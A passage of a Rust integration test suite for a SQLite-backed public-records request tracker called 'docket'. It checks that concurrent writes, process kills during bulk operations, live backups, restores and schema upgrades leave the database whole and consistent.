//! Nothing lost, nothing half-written (issue 7). A request history is evidence, so these tests
//! treat the database the way a database engineer would: writers racing each other and a
//! reader, processes killed with SIGKILL in the middle of bulk writes, backups taken while
//! others write, a database of the first released schema opened by today's docket, hostile and
//! mistaken input across every command, and exports and letters that are safe to open.
//!
//! Every test runs the real binary. The random ones print their seed; DOCKET_TEST_SEED=N
//! replays a run.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use rusqlite::{Connection, OpenFlags};

use crate::common::{Env, dump, to_run};

// ---------------------------------------------------------------------------------------------
// Helpers

/// A read-only connection, for looking at a database no process is writing.
fn ro(path: &Path) -> Connection {
    Connection::open_with_flags(path, OpenFlags::SQLITE_OPEN_READ_ONLY).expect("open read-only")
}

/// One number from a query.
fn count(conn: &Connection, sql: &str) -> i64 {
    conn.query_row(sql, [], |r| r.get(0))
        .unwrap_or_else(|e| panic!("{sql}: {e}"))
}

fn integrity(conn: &Connection) -> String {
    let rows: Vec<String> = conn
        .prepare("PRAGMA integrity_check")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    rows.join("; ")
}

/// The files beside a database that SQLite would read with it.
fn sidecars(db: &Path) -> Vec<PathBuf> {
    ["-wal", "-shm", "-journal"]
        .iter()
        .map(|s| {
            let mut p = db.as_os_str().to_os_string();
            p.push(s);
            PathBuf::from(p)
        })
        .filter(|p| p.exists())
        .collect()
}

/// A small xorshift generator: the tests need a few random numbers, printed as a seed so that
/// a failure can be replayed.
struct Rng(u64);

impl Rng {
    fn seeded(test: &str) -> Rng {
        let seed = std::env::var("DOCKET_TEST_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| {
                let t = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .unwrap_or_default();
                (t.as_nanos() as u64) ^ u64::from(std::process::id())
            })
            | 1;
        eprintln!("{test}: seed {seed} (replay with DOCKET_TEST_SEED={seed})");
        Rng(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// Runs docket with a busy timeout of a minute instead of ten seconds. What the concurrency
/// tests prove does not depend on the length of the wait, and a slow shared disk must not make
/// a writer give up on a queue of others.
fn patient(env: &Env, args: &[&str]) -> crate::common::Run {
    to_run(
        env.cmd()
            .env("DOCKET_BUSY_TIMEOUT_MS", "60000")
            .args(args)
            .output()
            .expect("run docket"),
    )
}

/// An environment with agencies and filed requests, ready for writers.
fn env_with_requests(n: usize) -> (Env, Vec<String>) {
    let env = Env::new();
    let slug = env.agency("Bergen County Sheriff's Office", "NJ");
    let ids = (0..n)
        .map(|_| {
            let id = env.draft(&slug);
            env.ok(&["file", &id, "--on", "2026-11-02"]);
            id
        })
        .collect();
    (env, ids)
}

// ---------------------------------------------------------------------------------------------
// Concurrency

/// Eight processes at a time, each logging 100 notes in order on the same four requests, while
/// a reader lists what is overdue: every write waits its turn and lands, exactly once, in order.
#[test]
fn eight_concurrent_writers_leave_every_note_in_order() {
    const WRITERS: usize = 8;
    const NOTES: usize = 100;
    let (env, ids) = env_with_requests(4);
    let before = count(&ro(&env.db()), "SELECT count(*) FROM events");
    let writing = AtomicBool::new(true);
    let started = Instant::now();
    let reads = std::thread::scope(|s| {
        let writers: Vec<_> = (0..WRITERS)
            .map(|p| {
                let (env, ids) = (&env, &ids);
                s.spawn(move || {
                    for n in 0..NOTES {
                        let note = format!("writer {p} note {n}");
                        let r =
                            patient(env, &["log", &ids[n % ids.len()], "note", "--note", &note]);
                        assert_eq!(r.code, 0, "writer {p} note {n}: {}", r.stderr);
                    }
                })
            })
            .collect();
        let reader = s.spawn(|| {
            let mut reads = 0;
            while writing.load(Ordering::Relaxed) {
                let r = env.run(&["overdue", "--format", "json"]);
                assert_eq!(
                    r.code, 0,
                    "a reader failed while writers wrote: {}",
                    r.stderr
                );
                r.json();
                let r = env.run(&["show", &ids[reads % ids.len()], "--format", "json"]);
                assert_eq!(
                    r.code, 0,
                    "a reader failed while writers wrote: {}",
                    r.stderr
                );
                reads += 1;
            }
            reads
        });
        for w in writers {
            w.join().expect("a writer panicked");
        }
        writing.store(false, Ordering::Relaxed);
        reader.join().expect("the reader panicked")
    });
    eprintln!(
        "{} notes by {WRITERS} processes at a time in {:.1} s; the reader ran {reads} times meanwhile",
        WRITERS * NOTES,
        started.elapsed().as_secs_f64()
    );
    let conn = ro(&env.db());
    assert_eq!(integrity(&conn), "ok");
    assert_eq!(
        count(&conn, "SELECT count(*) FROM events") - before,
        (WRITERS * NOTES) as i64
    );
    for p in 0..WRITERS {
        let notes: Vec<String> = conn
            .prepare("SELECT note FROM events WHERE note LIKE ?1 ORDER BY id")
            .unwrap()
            .query_map([format!("writer {p} note %")], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        let want: Vec<String> = (0..NOTES).map(|n| format!("writer {p} note {n}")).collect();
        assert_eq!(
            notes, want,
            "writer {p}'s notes are missing, doubled or out of order"
        );
    }
    // Each request's history is whole: its cached last event is its newest event.
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM requests r WHERE r.last_event_id IS NOT \
             (SELECT max(id) FROM events WHERE request_id = r.id)"
        ),
        0
    );
}

/// A write that cannot get the lock within the busy timeout says the database is busy and
/// writes nothing; one that gets it within the timeout waits and succeeds.
#[test]
fn a_writer_waits_for_the_lock_then_gives_up_with_a_busy_message() {
    let (env, ids) = env_with_requests(1);
    let id = &ids[0];
    let bytes = env.bytes();
    let before = env.dump();

    // Another process holds the write lock, with a write of its own under way.
    let holder = Connection::open(env.db()).unwrap();
    holder
        .execute_batch("BEGIN IMMEDIATE; INSERT INTO meta (key, value) VALUES ('held', 'yes');")
        .unwrap();
    let r = to_run(
        env.cmd()
            .env("DOCKET_BUSY_TIMEOUT_MS", "300")
            .args(["log", id, "note", "--note", "blocked"])
            .output()
            .unwrap(),
    );
    let e = r.error();
    assert!(e.contains("the database is busy"), "{e}");
    assert!(e.contains("over 0.3 s") && e.contains("try again"), "{e}");
    holder.execute_batch("ROLLBACK").unwrap();
    drop(holder);
    assert_eq!(env.bytes(), bytes, "a refused write changed the file");
    assert_eq!(env.dump(), before);

    // Held for a moment only: the writer waits (default timeout) and its note lands.
    let holder = Connection::open(env.db()).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE").unwrap();
    let waiting = env
        .cmd()
        .args(["log", id, "note", "--note", "waited"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    holder.execute_batch("COMMIT").unwrap();
    drop(holder);
    to_run(waiting.wait_with_output().unwrap()).ok();
    assert_eq!(
        count(
            &ro(&env.db()),
            "SELECT count(*) FROM events WHERE note = 'waited'"
        ),
        1
    );
}

// ---------------------------------------------------------------------------------------------
// Crashes

/// Where a kill landed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Landed {
    /// While the process held the write lock.
    Writing,
    /// At a random moment after the start, wherever the process was.
    Anywhere,
    /// The process had finished before the kill came.
    Finished,
}

/// Kills `child` with SIGKILL at a random point: three times in four while it holds the write
/// lock (seen by a probe whose `BEGIN IMMEDIATE` fails), after a random part of `window`;
/// otherwise at a random moment within `window` from now.
fn kill_at_random(child: &mut Child, db: &Path, rng: &mut Rng, window: Duration) -> Landed {
    let delay = Duration::from_millis(rng.below(window.as_millis() as u64 + 1));
    let landed = if rng.below(4) == 0 {
        let until = Instant::now() + delay;
        while Instant::now() < until {
            if child.try_wait().unwrap().is_some() {
                return Landed::Finished;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        Landed::Anywhere
    } else {
        let probe = Connection::open(db).unwrap();
        probe.busy_timeout(Duration::ZERO).unwrap();
        let give_up = Instant::now() + Duration::from_secs(60);
        loop {
            if child.try_wait().unwrap().is_some() {
                return Landed::Finished;
            }
            match probe.execute_batch("BEGIN IMMEDIATE") {
                Ok(()) => probe.execute_batch("ROLLBACK").unwrap(),
                Err(_) => break,
            }
            assert!(Instant::now() < give_up, "the process never began writing");
            std::thread::sleep(Duration::from_millis(1));
        }
        std::thread::sleep(delay);
        Landed::Writing
    };
    // SIGKILL: no destructor, no rollback, no flush runs in the child.
    child.kill().unwrap();
    child.wait().unwrap();
    landed
}

/// What a killed operation left: nothing of it, or all of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Left {
    Nothing,
    All,
}

/// Runs `args` against a fresh copy of `base`'s database `runs` times, killing it at random
/// points, and checks after each kill that the file passes `integrity_check`, that `whole` finds
/// the operation there entirely or not at all, and that docket opens the file again.
fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

fn crash_loop(
    name: &str,
    base: &Env,
    args: &[&str],
    runs: usize,
    window: Duration,
    whole: impl Fn(&Connection, &Path) -> Left,
) {
    let mut rng = Rng::seeded(name);
    let mut tally: BTreeMap<(String, Left), usize> = BTreeMap::new();
    let started = Instant::now();
    for run in 0..runs {
        let env = Env::new();
        std::fs::copy(base.db(), env.db()).unwrap();
        // The letters kept at filing live in the documents folder beside the file.
        let docs = base.db().with_file_name("docket.documents");
        if docs.is_dir() {
            copy_tree(&docs, &env.db().with_file_name("docket.documents"));
        }
        let mut child = env
            .cmd()
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let landed = kill_at_random(&mut child, &env.db(), &mut rng, window);
        // The next process to open the file is an ordinary read-write client, as the next
        // docket command would be: it recovers the write-ahead log.
        let left = {
            let conn = Connection::open(env.db()).unwrap();
            let check = integrity(&conn);
            assert_eq!(check, "ok", "{name} run {run} ({landed:?}): {check}");
            whole(&conn, &env.db())
        };
        env.run(&["list", "--format", "json"]).json();
        *tally.entry((format!("{landed:?}"), left)).or_default() += 1;
    }
    eprintln!(
        "{name}: {runs} kills in {:.1} s: {tally:?}",
        started.elapsed().as_secs_f64()
    );
}

/// `agency import` of a CSV of `n` agencies, one 287(g) agreement each.
fn agencies_csv(dir: &Path, n: usize, state: &str) -> PathBuf {
    let mut csv = String::from("name,state,county,email,support_type,signed_on\n");
    for i in 0..n {
        csv.push_str(&format!(
            "Agency {i} Sheriff's Office,{state},County {i},records{i}@agency{i}.example,Jail Enforcement Model,2025-02-20\n"
        ));
    }
    let path = dir.join(format!("agencies-{state}-{n}.csv"));
    std::fs::write(&path, csv).unwrap();
    path
}

/// A bulk draft to 2,000 agencies killed at random points: all 2,000 requests and their batch,
/// or none.
#[test]
fn a_bulk_draft_killed_at_random_points_is_all_or_nothing() {
    const AGENCIES: i64 = 2000;
    let base = Env::new();
    let csv = agencies_csv(base.path(), AGENCIES as usize, "NC");
    base.ok(&["agency", "import", csv.to_str().unwrap()]);
    crash_loop(
        "bulk draft",
        &base,
        &[
            "draft",
            "--state",
            "NC",
            "--set",
            "records=jail booking logs",
            "--set",
            "name=Ana Reyes",
        ],
        10,
        Duration::from_millis(1500),
        |conn, _| {
            let requests = count(conn, "SELECT count(*) FROM requests");
            let batches = count(conn, "SELECT count(*) FROM batches");
            let in_batch = count(
                conn,
                "SELECT count(*) FROM requests WHERE batch_id = (SELECT id FROM batches)",
            );
            match (requests, batches) {
                (0, 0) => Left::Nothing,
                (AGENCIES, 1) if in_batch == AGENCIES => Left::All,
                _ => panic!("half a draft: {requests} requests, {batches} batches"),
            }
        },
    );
}

/// An import of 10,000 agencies killed at random points: every agency and agreement, or none.
#[test]
fn an_import_killed_at_random_points_is_all_or_nothing() {
    const AGENCIES: i64 = 10_000;
    let base = Env::new();
    base.ok(&["init"]);
    let csv = agencies_csv(base.path(), AGENCIES as usize, "TX");
    crash_loop(
        "import",
        &base,
        &["agency", "import", csv.to_str().unwrap()],
        10,
        Duration::from_millis(700),
        |conn, _| {
            // The built-in federal offices are there before any import.
            let agencies = count(
                conn,
                "SELECT count(*) FROM agencies WHERE slug NOT IN ('ice', 'ice-foia-appeals', 'cbp', 'dhs-privacy', 'dhs-oig')",
            );
            let agreements = count(conn, "SELECT count(*) FROM agreements");
            match (agencies, agreements) {
                (0, 0) => Left::Nothing,
                (AGENCIES, AGENCIES) => Left::All,
                _ => panic!("half an import: {agencies} agencies, {agreements} agreements"),
            }
        },
    );
}

/// A reply with one attachment, tagged with the request it answers.
fn reply_eml(n: usize, request: &str, from: &str) -> String {
    format!(
        "From: Records <{from}>\r\n\
         To: ana@ledger.example\r\n\
         Subject: Re: records request [docket #{request}]\r\n\
         Date: Mon, 16 Nov 2026 10:00:00 -0500\r\n\
         Message-ID: <reply-{n}@agency.example>\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b\"\r\n\
         \r\n\
         --b\r\n\
         Content-Type: text/plain\r\n\
         \r\n\
         Reply number {n}.\r\n\
         --b\r\n\
         Content-Type: text/plain\r\n\
         Content-Disposition: attachment; filename=\"part-{n}.txt\"\r\n\
         \r\n\
         attachment {n}\r\n\
         --b--\r\n"
    )
}

/// An ingest of 60 replies killed at random points: every message, reply event and document
/// link, or none; and no document row ever points at a file that is not there.
#[test]
fn an_ingest_killed_at_random_points_is_all_or_nothing() {
    const MESSAGES: i64 = 60;
    let (base, ids) = env_with_requests(10);
    let mail = base.path().join("mail");
    std::fs::create_dir(&mail).unwrap();
    for n in 0..MESSAGES as usize {
        let eml = reply_eml(n, &ids[n % ids.len()], "records@bergen.example");
        std::fs::write(mail.join(format!("{n:03}.eml")), eml).unwrap();
    }
    let replies_before = count(
        &ro(&base.db()),
        "SELECT count(*) FROM events WHERE kind = 'reply'",
    );
    assert_eq!(replies_before, 0);
    crash_loop(
        "ingest",
        &base,
        &["ingest", mail.to_str().unwrap()],
        10,
        Duration::from_millis(1500),
        |conn, db| {
            let messages = count(conn, "SELECT count(*) FROM messages");
            let replies = count(conn, "SELECT count(*) FROM events WHERE kind = 'reply'");
            // The letters kept as sent at filing were there before the ingest.
            let links = count(
                conn,
                "SELECT count(*) FROM request_documents WHERE role IS NOT 'sent'",
            );
            let docs_dir = db.with_file_name("docket.documents");
            let paths: Vec<String> = conn
                .prepare("SELECT stored_path FROM documents")
                .unwrap()
                .query_map([], |r| r.get(0))
                .unwrap()
                .map(Result::unwrap)
                .collect();
            for p in &paths {
                assert!(docs_dir.join(p).is_file(), "document {p} has no file");
            }
            // Each reply: the message itself, its body, its attachment.
            match (messages, replies, links) {
                (0, 0, 0) => Left::Nothing,
                (MESSAGES, MESSAGES, l) if l == 3 * MESSAGES => Left::All,
                _ => {
                    panic!("half an ingest: {messages} messages, {replies} replies, {links} links")
                }
            }
        },
    );
}

// ---------------------------------------------------------------------------------------------
// Backups

/// What a backup printed: `backed up to FILE: 1 agencies, ..., 12 events, ...`.
fn backed_up_counts(stdout: &str) -> BTreeMap<String, i64> {
    let line = stdout
        .lines()
        .find(|l| l.starts_with("backed up to "))
        .unwrap_or_else(|| panic!("no summary: {stdout}"));
    let (_, counts) = line.rsplit_once(": ").unwrap();
    counts
        .split(", ")
        .map(|c| {
            let (n, table) = c.split_once(' ').unwrap();
            (table.to_string(), n.parse().unwrap())
        })
        .collect()
}

/// Checks that a backup is a whole, consistent database of one moment.
fn check_backup(copy: &Path, printed: &BTreeMap<String, i64>) {
    let conn = ro(copy);
    assert_eq!(integrity(&conn), "ok", "{}", copy.display());
    let mode: String = conn
        .query_row("PRAGMA journal_mode", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "delete", "a backup is one self-contained file");
    assert!(sidecars(copy).is_empty(), "{:?}", sidecars(copy));
    for (table, n) in printed {
        assert_eq!(
            count(&conn, &format!("SELECT count(*) FROM {table}")),
            *n,
            "{table}: the copy holds another count than the command said"
        );
    }
    // One moment: no event without its request, and every request's cached last event (written
    // in the same transaction as the event) is its newest event in the copy.
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM events WHERE request_id NOT IN (SELECT id FROM requests)"
        ),
        0
    );
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM requests r WHERE r.last_event_id IS NOT \
             (SELECT max(id) FROM events WHERE request_id = r.id)"
        ),
        0,
        "the copy mixes two moments"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(copy).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "a backup is as private as the database");
    }
}

/// Backups taken while four processes write are each whole and of one moment; the last one,
/// taken when the writers are done, holds exactly what the database holds.
#[test]
fn backups_taken_while_others_write_are_consistent() {
    let (env, ids) = env_with_requests(4);
    let writing = AtomicBool::new(true);
    let mut copies = Vec::new();
    std::thread::scope(|s| {
        let writers: Vec<_> = (0..4)
            .map(|p| {
                let (env, ids) = (&env, &ids);
                s.spawn(move || {
                    for n in 0..40 {
                        let note = format!("writer {p} note {n}");
                        let id = &ids[(p + n) % ids.len()];
                        patient(env, &["log", id, "note", "--note", &note]).ok();
                    }
                })
            })
            .collect();
        let mut i = 0;
        while writers.iter().any(|w| !w.is_finished()) && i < 8 {
            let copy = env.path().join(format!("while-writing-{i}.sqlite3"));
            let out = env.ok(&["backup", copy.to_str().unwrap()]);
            copies.push((copy, backed_up_counts(&out)));
            i += 1;
        }
        for w in writers {
            w.join().expect("a writer panicked");
        }
        writing.store(false, Ordering::Relaxed);
    });
    assert!(!copies.is_empty());
    let mut last_events = 0;
    for (copy, printed) in &copies {
        check_backup(copy, printed);
        // Later copies never hold less.
        assert!(printed["events"] >= last_events);
        last_events = printed["events"];
    }
    eprintln!(
        "{} backups while writing, with {:?} events",
        copies.len(),
        copies.iter().map(|c| c.1["events"]).collect::<Vec<_>>()
    );
    let fin = env.path().join("final.sqlite3");
    let out = env.ok(&["backup", fin.to_str().unwrap()]);
    check_backup(&fin, &backed_up_counts(&out));
    assert_eq!(dump(&fin), env.dump());
}

/// `--with-documents` copies the stored files; putting the copy back (the file as the
/// database, its documents folder beside it under the database's name) restores everything.
#[test]
fn a_backup_with_documents_restores_by_copying_it_back() {
    let (env, ids) = env_with_requests(2);
    let scan = env.path().join("scan.pdf");
    std::fs::write(&scan, b"%PDF-1.4 records of request one").unwrap();
    env.ok(&["attach", &ids[0], scan.to_str().unwrap()]);
    let mail = env.path().join("reply.eml");
    std::fs::write(&mail, reply_eml(1, &ids[1], "records@bergen.example")).unwrap();
    env.ok(&["ingest", mail.to_str().unwrap()]);
    let saved = env.dump();
    let shown = env.ok(&["show", &ids[1], "--format", "json"]);

    let folder = env.path().join("backups");
    std::fs::create_dir(&folder).unwrap();
    let copy = folder.join("docket-2026-11-20.sqlite3");
    let out = env.ok(&["backup", copy.to_str().unwrap(), "--with-documents"]);
    check_backup(&copy, &backed_up_counts(&out));
    // Two attachments, the reply message, and the two letters kept at filing.
    assert!(out.contains("copied 5 document file(s)"), "{out}");

    // Later work, then the loss of both the database and its documents.
    env.ok(&["log", &ids[0], "note", "--note", "after the backup"]);
    std::fs::remove_file(env.db()).unwrap();
    std::fs::remove_dir_all(env.path().join("docket.documents")).unwrap();

    // Restore: copy the file back, and its documents folder beside it.
    std::fs::copy(&copy, env.db()).unwrap();
    copy_dir(
        &folder.join("docket-2026-11-20.documents"),
        &env.path().join("docket.documents"),
    );
    assert_eq!(env.dump(), saved);
    assert_eq!(env.ok(&["show", &ids[1], "--format", "json"]), shown);
    let doc_ids: Vec<i64> = ro(&env.db())
        .prepare("SELECT id FROM documents ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(doc_ids.len(), 5);
    let scan_id: i64 = ro(&env.db())
        .query_row(
            "SELECT document_id FROM request_documents WHERE name = 'scan.pdf'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let pdf = env.ok(&["open", &scan_id.to_string()]);
    assert_eq!(
        std::fs::read(pdf.trim()).unwrap(),
        b"%PDF-1.4 records of request one"
    );
    for d in doc_ids {
        let path = env.ok(&["open", &d.to_string()]);
        assert!(Path::new(path.trim()).is_file(), "{path}");
    }
    // And it takes new work.
    env.ok(&["log", &ids[0], "note", "--note", "after the restore"]);
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &to.join(e.file_name()));
        } else {
            std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
        }
    }
}

/// A backup never overwrites a file, nor the temporary file it writes first.
#[test]
fn a_backup_never_overwrites_a_file() {
    let (env, _) = env_with_requests(1);
    let taken = env.path().join("taken.sqlite3");
    std::fs::write(&taken, b"an earlier backup, or anything else").unwrap();
    let e = env
        .run(&["backup", taken.to_str().unwrap()])
        .error()
        .to_string();
    assert!(e.contains("exists") && e.contains("new file name"), "{e}");
    assert_eq!(
        std::fs::read(&taken).unwrap(),
        b"an earlier backup, or anything else"
    );
    // A file of the user's with the name of docket's temporary copy is left alone too.
    let partial = env.path().join("fresh.partial");
    std::fs::write(&partial, b"my own notes").unwrap();
    let fresh = env.path().join("fresh.sqlite3");
    env.ok(&["backup", fresh.to_str().unwrap()]);
    assert_eq!(std::fs::read(&partial).unwrap(), b"my own notes");
    assert_eq!(dump(&fresh), env.dump());
    // A folder that does not exist is named.
    let e = env
        .run(&[
            "backup",
            env.path().join("no/such/b.sqlite3").to_str().unwrap(),
        ])
        .error()
        .to_string();
    assert!(e.contains("does not exist"), "{e}");
}

// ---------------------------------------------------------------------------------------------
// Upgrades

const SCHEMA_V1: &str = include_str!("../fixtures/schema-v1.sql");

/// Tables docket rewrites from its own built-in data whenever that changes: not user rows.
const REBUILT: &[&str] = &["jurisdictions", "meta"];

/// The rows as the first schema held them: its columns only, less the request's cached flag,
/// which docket derives anew when it upgrades a file (a reply no longer hides a late clock).
fn v1_rows(path: &Path) -> BTreeMap<String, Vec<String>> {
    let v1 = Connection::open_in_memory().unwrap();
    v1.execute_batch(SCHEMA_V1).unwrap();
    let columns = |t: &str| -> Vec<String> {
        v1.prepare(&format!("SELECT name FROM pragma_table_info('{t}')"))
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    let mut known: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for t in [
        "agencies",
        "agreements",
        "batches",
        "closures",
        "documents",
        "events",
        "jurisdiction_overrides",
        "messages",
        "request_documents",
        "requests",
    ] {
        known.insert(t.to_string(), columns(t));
    }
    let mut rows = rows_of(path, |t, c| {
        known.get(t).is_some_and(|cols| cols.iter().any(|k| k == c))
            && !(t == "requests" && c == "flag")
    });
    // Tables a later schema added hold nothing of the first schema's rows; the built-in
    // federal offices a later docket adds (all but ICE: the fixture has its own) are not.
    rows.retain(|t, _| known.contains_key(t));
    if let Some(agencies) = rows.get_mut("agencies") {
        agencies.retain(|r| {
            !["cbp", "ice-foia-appeals", "dhs-privacy", "dhs-oig"]
                .iter()
                .any(|slug| r.contains(&format!("slug=Text(\"{slug}\")")))
        });
    }
    rows
}

fn rows_of(path: &Path, keep: impl Fn(&str, &str) -> bool) -> BTreeMap<String, Vec<String>> {
    let conn = ro(path);
    let tables: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .filter(|t: &String| !REBUILT.contains(&t.as_str()))
        .collect();
    tables
        .into_iter()
        .map(|t| {
            let mut st = conn
                .prepare(&format!("SELECT * FROM \"{t}\" ORDER BY 1"))
                .unwrap();
            let names: Vec<String> = st.column_names().map(|c| c.to_string()).collect();
            let rows = st
                .query_map([], |r| {
                    let mut cells = Vec::new();
                    for (i, name) in names.iter().enumerate() {
                        if !keep(&t, name) {
                            continue;
                        }
                        let v: rusqlite::types::Value = r.get(i)?;
                        cells.push(format!("{name}={v:?}"));
                    }
                    Ok(cells.join("|"))
                })
                .unwrap()
                .map(Result::unwrap)
                .collect();
            (t, rows)
        })
        .collect()
}

/// The schema as SQLite holds it, comments and whitespace aside, sorted.
fn normalised_schema(conn: &Connection) -> Vec<String> {
    let rows: Vec<(String, String, Option<String>)> = conn
        .prepare("SELECT type, name, sql FROM sqlite_schema ORDER BY type, name")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    rows.into_iter()
        .map(|(kind, name, sql)| {
            let sql: String = sql
                .unwrap_or_default()
                .lines()
                .map(|l| l.split("--").next().unwrap_or(""))
                .collect::<Vec<_>>()
                .join(" ");
            let sql = sql.split_whitespace().collect::<Vec<_>>().join(" ");
            let sql = sql.replace("( ", "(").replace(" )", ")").replace(" ,", ",");
            format!("{kind} {name}: {sql}")
        })
        .collect()
}

fn pragma(conn: &Connection, name: &str) -> i64 {
    count(conn, &format!("PRAGMA {name}"))
}

/// Builds the database of the first released schema, with its documents, at `env`'s path.
fn v1_database(env: &Env) {
    let conn = Connection::open(env.db()).unwrap();
    conn.execute_batch(SCHEMA_V1).unwrap();
    drop(conn);
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/schema-v1-documents"),
        &env.path().join("docket.documents"),
    );
}

/// A database made by schema version 1 (tests/fixtures/schema-v1.sql) is opened by today's
/// docket, brought to the current schema, keeps every row, and every command works on it.
#[test]
fn a_database_of_the_first_schema_opens_keeps_every_row_and_works() {
    let env = Env::bare();
    v1_database(&env);
    let before = v1_rows(&env.db());
    assert_eq!(before["requests"].len(), 7);
    assert_eq!(before["events"].len(), 23);

    let listed = env.run(&["list", "--format", "json"]).json();
    assert_eq!(listed.as_array().unwrap().len(), 7);
    let conn = ro(&env.db());
    assert_eq!(integrity(&conn), "ok");
    assert_eq!(
        pragma(&conn, "user_version"),
        docket::db::migrate::current_version()
    );
    assert_eq!(
        pragma(&conn, "application_id"),
        i64::from(docket::db::APPLICATION_ID)
    );
    let fresh = Env::new();
    fresh.ok(&["init"]);
    assert_eq!(
        normalised_schema(&conn),
        normalised_schema(&ro(&fresh.db())),
        "a database of schema 1 does not reach today's schema: a change to schema.sql needs a \
         migration appended to MIGRATIONS in src/db/migrate.rs"
    );
    drop(conn);
    assert_eq!(v1_rows(&env.db()), before, "opening it changed rows");

    // Commands work on it: reading, writing, the stored documents, the letters, the exports.
    let shown = env.run(&["show", "3", "--format", "json"]).json();
    assert_eq!(shown["status"], "filed", "{shown}");
    assert!(env.ok(&["overdue"]).contains("bergen-so-nj"));
    env.ok(&[
        "log",
        "1",
        "complete",
        "--on",
        "2026-11-20",
        "--note",
        "rest of it",
    ]);
    env.ok(&["ingest", "--assign", "2", "4"]);
    let doc = env.ok(&["open", "1"]);
    assert_eq!(
        std::fs::read_to_string(doc.trim()).unwrap(),
        "Detainer log, page 1\n"
    );
    env.ok(&["config", "set", "name", "Ana Reyes"]);
    let letter = env.ok(&["letter", "3"]);
    assert!(
        letter.contains("jail booking logs since 2025-01-01"),
        "{letter}"
    );
    env.ok(&["letter", "4", "--kind", "followup"]);
    env.ok(&["export", "--format", "csv"]);
    env.ok(&["export", "--format", "html"]);
    env.ok(&["stats", "--by", "agency"]);
    env.ok(&["explain", "4"]);
    env.ok(&["file", "7", "--on", "2026-11-20"]);
    let after = v1_rows(&env.db());
    for (table, rows) in &before {
        let kept: Vec<&String> = rows.iter().filter(|r| !after[table].contains(r)).collect();
        if table == "requests" || table == "messages" {
            // Requests 1, 4 and 7 and message 2 were changed by the commands above; their
            // ids stay, with the rest unchanged.
            assert!(kept.len() <= 3, "{table}: {kept:#?}");
        } else {
            assert!(kept.is_empty(), "{table} lost or changed rows: {kept:#?}");
        }
    }
}

/// A database whose schema version is newer than this docket is refused, and left exactly as
/// it was: not one byte changed, no journal or log file beside it.
#[test]
fn a_database_newer_than_docket_is_refused_byte_for_byte() {
    let env = Env::bare();
    v1_database(&env);
    {
        let conn = Connection::open(env.db()).unwrap();
        conn.pragma_update(
            None,
            "user_version",
            docket::db::migrate::current_version() + 1,
        )
        .unwrap();
    }
    let bytes = env.bytes();
    for args in [
        &["list"][..],
        &["init"],
        &["log", "1", "note", "--note", "x"],
        &["backup", "b.sqlite3"],
    ] {
        let e = env.run(args).error().to_string();
        assert!(
            e.contains("newer docket") && e.contains("upgrade docket"),
            "{e}"
        );
        assert!(env.bytes() == bytes, "{args:?} changed the file");
        assert!(sidecars(&env.db()).is_empty(), "{:?}", sidecars(&env.db()));
    }
    assert!(!env.path().join("b.sqlite3").exists());
}

/// Applying the migrations in order to an empty file gives the same schema as `schema.sql`,
/// which new databases are made from. Today there is one version, so this guards the future:
/// a change to schema.sql without its migration (or the other way round) fails here.
#[test]
fn the_migrations_in_order_make_the_schema_of_schema_sql() {
    use docket::db::migrate::{MIGRATIONS, SCHEMA};
    let stepped = Connection::open_in_memory().unwrap();
    for (i, sql) in MIGRATIONS.iter().enumerate() {
        stepped
            .execute_batch(sql)
            .unwrap_or_else(|e| panic!("migration {} fails on the one before: {e}", i + 1));
        stepped
            .pragma_update(None, "user_version", i as i64 + 1)
            .unwrap();
    }
    let direct = Connection::open_in_memory().unwrap();
    direct.execute_batch(SCHEMA).unwrap();
